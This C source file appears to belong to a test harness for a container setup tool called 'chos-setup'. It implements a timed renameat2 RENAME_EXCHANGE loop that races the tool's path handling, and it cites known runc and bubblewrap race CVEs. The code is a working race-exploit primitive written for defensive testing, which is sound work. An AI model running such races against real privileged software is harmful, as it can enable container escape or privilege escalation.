/* exchange: renameat2(RENAME_EXCHANGE) loops against chos-setup (docs/threat-model.md,
 * class C: runc CVE-2021-30465, bubblewrap CVE-2019-12439). */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
static volatile sig_atomic_t stop_requested;

static void request_stop(int sig)
{
    (void)sig;
    stop_requested = 1;
}

static void sleep_us(long us)
{
    struct timespec ts = {us / 1000000, (us % 1000000) * 1000L};
    while (nanosleep(&ts, &ts) != 0 && errno == EINTR && !stop_requested)
        ;
}

static int exchange_once(const char *a, const char *b)
{
    return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int attack_exchange(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    uint64_t end = attack_now_ns() + (uint64_t)attack_num(argv[2]) * 1000000000ULL;
    long hold = argc > 3 ? attack_num(argv[3]) : 0, gap = argc > 4 ? attack_num(argv[4]) : 0;
    long swaps = 0, fails = 0;
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = request_stop;
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    srand((unsigned)getpid());
    do { /* SECONDS 0: one attempt */
        if (exchange_once(argv[0], argv[1]) != 0) {
            ++fails;
        } else {
            ++swaps;
            if (hold || gap) {
                sleep_us(hold);
                /* swap back (a mount on the moved directory makes it EBUSY:
                 * then it stays where it is) */
                for (int tries = 0; tries < 200; ++tries) {
                    if (exchange_once(argv[0], argv[1]) == 0) {
                        ++swaps;
                        break;
                    }
                    sleep_us(1000);
                }
            }
        }
        if (gap)
            sleep_us(gap / 2 + rand() % (gap + 1));
    } while (attack_now_ns() < end && !stop_requested);
    printf("swaps %ld fails %ld\n", swaps, fails);
    return 0;
}

